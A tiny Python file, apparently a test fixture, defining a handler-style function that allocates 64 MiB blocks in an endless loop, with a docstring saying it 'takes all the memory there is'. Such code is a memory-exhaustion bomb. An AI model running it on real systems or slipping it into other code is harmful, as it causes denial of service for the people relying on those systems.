"""Takes all the memory there is."""


def hand_over(event, taken, tracked):
    hoard = []
    while True:
        hoard.append(bytearray(64 << 20))
